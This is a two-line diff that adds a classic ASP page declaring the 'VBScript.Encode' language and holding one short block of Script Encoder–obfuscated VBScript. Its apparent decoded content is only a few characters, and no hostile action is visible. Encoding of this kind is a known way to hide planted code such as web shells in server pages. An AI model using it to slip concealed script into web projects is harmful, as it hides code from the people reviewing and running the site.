@@ -1,0 +1,2 @@
+<%@ LANGUAGE = "VBScript.Encode"%>
+<%#@~^CQAAAA==\ko$K4ITHAQAAA==^#~@%>
